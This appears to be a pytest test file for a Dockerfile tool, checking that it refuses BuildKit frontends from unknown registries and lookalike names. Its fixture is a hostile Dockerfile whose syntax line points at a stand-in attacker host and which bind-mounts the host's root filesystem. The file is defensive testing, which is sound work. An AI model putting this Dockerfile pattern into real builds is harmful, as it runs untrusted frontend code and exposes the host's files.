"""Dockerfiles with a frontend or mounts of their own (attack case 19)."""

import pytest
from warm import Warm

from slimml.dockerfile.document import parse
from slimml.errors import Refused
from slimml.slim.dockerfiles.frontend import check_frontend

HOSTILE = "# syntax=attacker.example/frontend:latest\nFROM scratch\nRUN --mount=type=bind,source=/,target=/host id\n"


@pytest.fixture
def place(tmp_path):
    (tmp_path / "Dockerfile").write_text(HOSTILE)
    return tmp_path


@pytest.mark.parametrize(
    "words", [("dockerfile", "build", "Dockerfile"), ("optimize", "--dockerfile", "Dockerfile", ".")]
)
def test_19_a_strangers_frontend_is_not_run(place, words):
    with Warm() as slimml:
        end = slimml.run(*words, cwd=place)
    assert (end.code, end.out) == (Refused.exit_code, "")
    assert end.err.startswith("slimml: error: line 1: # syntax=attacker.example/frontend:latest is not Docker's own")
    assert sorted(path.name for path in place.iterdir()) == ["Dockerfile"]


@pytest.mark.parametrize("command", ["lint", "fix"])
def test_19_what_only_reads_runs_nothing(place, command):
    with Warm() as slimml:
        # No builder and no engine could be found.
        end = slimml.run("dockerfile", command, "Dockerfile", cwd=place, PATH=str(place))
    assert end.code in (0, 11)
    assert (place / "Dockerfile").read_text() == HOSTILE


@pytest.mark.parametrize("name", ["docker/dockerfile", "docker/dockerfile:1.7-labs", "docker.io/docker/dockerfile:1"])
def test_19_dockers_own_frontend_is_taken(name):
    check_frontend(parse(f"# syntax={name}\nFROM scratch\n".encode()))


LIKE_DOCKERS = ("docker/dockerfile.evil", "evil/docker/dockerfile", "docker/dockerfile:1/x", "e.io/docker/dockerfile:1")


@pytest.mark.parametrize("name", LIKE_DOCKERS)
def test_19_what_looks_like_it_is_not(name):
    with pytest.raises(Refused, match="not Docker's own"):
        check_frontend(parse(f"# syntax={name}\nFROM scratch\n".encode()))


def test_19_a_frontend_can_be_trusted_by_name():
    check_frontend(parse(HOSTILE.encode()), ["attacker.example/frontend:latest"])


def test_19_a_dockerfile_given_as_an_image_is_not_read(place):
    with Warm() as slimml:
        ends = [slimml.run("analyze", f"{kind}:Dockerfile", cwd=place) for kind in ("oci", "oci-archive")]
    assert all(end.code not in (0, 70) and end.err.count("\n") == 1 for end in ends)
    assert not any("attacker" in end.err for end in ends)
